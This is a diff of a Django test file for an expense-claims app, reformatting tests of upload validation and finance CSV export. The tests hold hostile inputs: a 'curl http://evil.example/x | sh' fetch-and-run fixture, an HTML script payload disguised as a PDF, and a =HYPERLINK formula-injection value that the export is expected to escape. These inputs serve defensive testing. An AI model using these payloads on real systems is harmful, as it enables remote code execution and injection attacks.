@@ -82,7 +82,9 @@ SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
             "could not be read as a photo or PDF",
         ),
         (
-            SimpleUploadedFile("receipt.pdf", b"<html><script>alert(1)</script>", "application/pdf"),
+            SimpleUploadedFile(
+                "receipt.pdf", b"<html><script>alert(1)</script>", "application/pdf"
+            ),
             "could not be read as a photo or PDF",
         ),
         (
@@ -120,7 +122,9 @@ def test_expenses_need_a_receipt_but_hours_alone_do_not(ambassador_client):
     assert not Claim.objects.exists()
 
     hours_only = claim_data(expenses="0", expenses_description="")
-    assert ambassador_client.post(reverse("ambassadors:claim_create"), hours_only).status_code == 302
+    assert (
+        ambassador_client.post(reverse("ambassadors:claim_create"), hours_only).status_code == 302
+    )
     assert Claim.objects.get().receipt.name == ""
 
 
@@ -195,7 +199,7 @@ def test_the_finance_csv_lists_approved_claims_only(coordinator_client, coordina
         month=date(2026, 10, 1),
         hours=Decimal("20"),
         expenses=Decimal("12.30"),
-        expenses_description="=HYPERLINK(\"http://evil\")",
+        expenses_description='=HYPERLINK("http://evil")',
     )
     approved.decide(approve=True, by=coordinator)
     ClaimFactory(ambassador__display_name="Waiting W", month=date(2026, 10, 1))
@@ -209,7 +213,7 @@ def test_the_finance_csv_lists_approved_claims_only(coordinator_client, coordina
     assert 'filename="approved-claims-2026-10.csv"' in response["Content-Disposition"]
     rows = list(csv.reader(io.StringIO(response.content.decode())))
     assert rows[0][:5] == ["Claim", "Ambassador", "Month", "Hours", "Expenses (GBP)"]
-    assert rows[1][1:6] == ["Amira K", "2026-10", "20.00", "12.30", "'=HYPERLINK(\"http://evil\")"]
+    assert rows[1][1:6] == ["Amira K", "2026-10", "20.00", "12.30", '\'=HYPERLINK("http://evil")']
     assert len(rows) == 2
 
     everything = coordinator_client.get(reverse("ambassadors_finance_csv"))
